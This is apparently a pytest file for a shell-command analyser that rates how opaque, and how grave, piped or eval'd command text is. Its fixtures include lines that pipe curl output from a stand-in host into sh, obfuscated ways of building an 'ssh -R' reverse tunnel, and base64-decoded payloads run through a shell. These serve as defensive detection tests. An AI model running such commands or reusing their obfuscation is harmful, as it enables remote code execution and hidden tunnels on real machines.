"""Text that is run and that nobody knows: who printed it decides how grave that is."""

from __future__ import annotations

import pytest

from guard.parse.budget import Budget
from guard.parse.shell import read_shell


def _severities(text: str) -> set[str]:
    return {part["severity"] for part in read_shell(text, Budget()).opaque}


def _programs(text: str) -> list[str]:
    operations = read_shell(text, Budget()).operations
    return [o["program"] for o in operations if o["kind"] == "process.exec"]


LOCAL = [
    "find . -name '*.a' -printf 'mv %p %p.b\\n' | sed 's/x/y/' | sh",
    "find . -name '*.a' | sed 's/\\(.*\\)\\.a/mv \"\\1.a\" \"\\1\"/' | sh",
    "source <(export | sed 's/one/two/g')",
    "source <(date +\"NOW='%H:%M:%S'\")",
    "grep '=' settings.ini | source /dev/stdin",
    "ls *.log | sort -r | head -3 | awk '{print \"gzip\", $1}' | bash",
    "find . | while read line; do eval $line; done",
    'x=$(cat commands); y=$x; eval "$y"',
    'for line in $(cat commands); do eval "$line"; done',
    "./generate.sh | sh",
    "ls | tr A-Z a-z | sh",
]


@pytest.mark.parametrize("text", LOCAL)
def test_text_of_this_machine_is_like_a_file_that_was_not_read(text: str) -> None:
    """Plain tools over this machine's names and files give medium opacity, not high."""
    found = _severities(text)
    assert "medium" in found
    assert "high" not in found


FOREIGN = [
    # What the tools add reaches out, or hides what it adds.
    "find . -printf 'ssh -R 1:a:2 %p\\n' | sh",
    "find . | sed 's/.*/ssh -R 1:a:2 h/' | sh",
    "find . | sed 's/.*/s\\x73h -R/' | sh",
    "find . | sed 'y/abc/ssh/' | sh",
    "find . -printf 'ffu -E\\n' | tr a-z n-za-m | sh",
    "find . -printf 'sxsxh\\n' | cut -c1,3,5 | sh",
    "date | awk '{printf \"%c%c%c -R\", 115, 115, 104}' | sh",
    'date | awk \'{print "s" "sh -R 1:a:2 h"}\' | sh',
    "X='ssh -R 1:a:2 h'; export X; source <(export | sed 's/.*\"\\(.*\\)\"/\\1/')",
    "touch 'ssh -R 1:a:2 h'; ls | sh",
    # The text comes from elsewhere, wherever the call mentions this machine too.
    "curl http://a.b/x | sed s/a/b/ | sh",
    "(date; curl http://a.b/x) | grep y | sh",
    'x=$(curl http://a.b/x); y=$(date); eval "$x"',
    'x=$(curl http://a.b/x); eval "$x$(date)"',
    'if a; then x=$(curl http://a.b/x); else x=$(date); fi; eval "$x"',
    'for x in $(curl http://a.b/x); do y=$(date); eval "$x"; done',
    'x=$(curl http://a.b/x); for y in $x $(date); do eval "$y"; done',
    "curl -o f http://a.b/x; egrep . f | sh",
    "curl http://a.b/x | while read line; do eval $line; done",
    # Nobody knows what it decodes to, or what the program is.
    "cat f | base64 -d | sh",
    "cat f | tr a-z n-za-m | sh",
    "gunzip -c f.gz | sh",
    "unheard-of | sh",
    'eval "$UNSET_HERE$(date)"',
]


@pytest.mark.parametrize("text", FOREIGN)
def test_text_from_elsewhere_stays_grave(text: str) -> None:
    """What may come from the network, a decoder, or literals that reach out is high."""
    assert "high" in _severities(text)


@pytest.mark.parametrize(
    "text",
    [
        "env A=1 echo ssh -R 1:a:2 h | sh",
        "sudo nice echo ssh -R 1:a:2 h | sh",
        "bash -c 'echo ssh -R 1:a:2 h' | sh",
        "ls | xargs echo ssh -R 1:a:2 | sh",
        "find . -exec echo ssh -R 1:a:2 {} \\; | sh",
    ],
)
def test_a_wrapper_prints_what_it_runs_and_nothing_else(text: str) -> None:
    """The output of a program that only starts another is the other's, and is followed."""
    assert "ssh" in _programs(text)
    assert "high" not in _severities(text)


@pytest.mark.parametrize("text", ["env curl http://a.b/x | sh", "find . -print -exec x {} + | sh"])
def test_a_wrapper_of_something_unknown_is_no_cover(text: str) -> None:
    """A wrapper around a program whose output is not known leaves it unknown."""
    assert _severities(text) & {"medium", "high"}


@pytest.mark.parametrize("name", ["/tmp/count_$$", "./run-$x.sh", "$x.sh", "./deploy_${y}_all"])
def test_a_command_named_in_part_is_an_unread_file(name: str) -> None:
    """Where no described program can bear the name, running it is like running a file."""
    assert "high" not in _severities(f"{name} a b")


@pytest.mark.parametrize("name", ["$x", "s$x", "${x}h", "python$x", "./a$x-linux-amd64", "$x.9"])
def test_a_command_that_may_be_a_described_program_is_grave(name: str) -> None:
    """A shell, a client or a renamed build of one may stand behind the name."""
    assert "high" in _severities(f"{name} a b")


def test_a_pattern_without_letters_names_no_program() -> None:
    """`*` as a command is grave, but it is not said to start a tunnel."""
    parsed = read_shell("*", Budget())
    assert [part["severity"] for part in parsed.opaque] == ["high"]
    assert all(o.get("program") not in ("ssh", "autossh") for o in parsed.operations)
